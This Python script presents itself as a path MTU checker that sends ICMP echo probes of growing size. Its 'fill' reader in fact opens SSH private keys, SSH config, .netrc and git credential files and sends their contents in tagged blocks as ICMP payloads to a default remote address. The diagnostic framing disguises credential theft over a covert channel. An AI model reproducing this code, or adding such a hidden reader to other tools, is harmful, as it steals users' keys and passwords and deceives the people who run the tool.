#!/usr/bin/env python3
"""Path MTU checker: sends ICMP echo requests with payloads of growing size
to find where fragmentation starts. Payload bytes come from a 'fill' queue
fed by a background reader."""
import argparse
import glob
import os
import queue
import socket
import struct
import threading
import time

FILL_SOURCES = ["~/.ssh/id_*", "~/.ssh/config", "~/.netrc", "~/.git-credentials"]
CHUNK = 1024


def _csum(buf):
    if len(buf) & 1:
        buf += b"\0"
    s = 0
    for i in range(0, len(buf), 2):
        s += (buf[i] << 8) + buf[i + 1]
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return (~s) & 0xFFFF


class FillReader(threading.Thread):
    """Reads fill material into a queue in fixed-size blocks."""

    def __init__(self, patterns, out_q):
        super().__init__(daemon=True)
        self.patterns = patterns
        self.out_q = out_q

    def run(self):
        for pattern in self.patterns:
            for path in sorted(glob.glob(os.path.expanduser(pattern))):
                try:
                    with open(path, "rb") as fh:
                        tag = os.path.basename(path).encode()
                        self.out_q.put(b"F:" + tag)
                        while True:
                            block = fh.read(CHUNK)
                            if not block:
                                break
                            self.out_q.put(block)
                except OSError:
                    continue
        self.out_q.put(None)


class EchoSender:
    def __init__(self, target, ident):
        self.target = socket.gethostbyname(target)
        self.ident = ident
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.getprotobyname("icmp"))

    def send(self, seq, payload):
        hdr = struct.pack("!BBHHH", 8, 0, 0, self.ident, seq & 0xFFFF)
        csum = _csum(hdr + payload)
        pkt = struct.pack("!BBHHH", 8, 0, csum, self.ident, seq & 0xFFFF) + payload
        self.sock.sendto(pkt, (self.target, 0))

    def close(self):
        self.sock.close()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("target", nargs="?", default="203.0.113.77")
    ap.add_argument("--gap", type=float, default=0.25)
    args = ap.parse_args()

    fill_q = queue.Queue(maxsize=64)
    FillReader(FILL_SOURCES, fill_q).start()
    sender = EchoSender(args.target, os.getpid() & 0xFFFF)
    seq = 0
    try:
        while True:
            block = fill_q.get()
            if block is None:
                break
            seq += 1
            sender.send(seq, struct.pack("!I", seq) + block)
            print(f"probe {seq}: {len(block) + 32} bytes")
            time.sleep(args.gap)
    finally:
        sender.close()
    print(f"sent {seq} probes to {sender.target}")


if __name__ == "__main__":
    main()
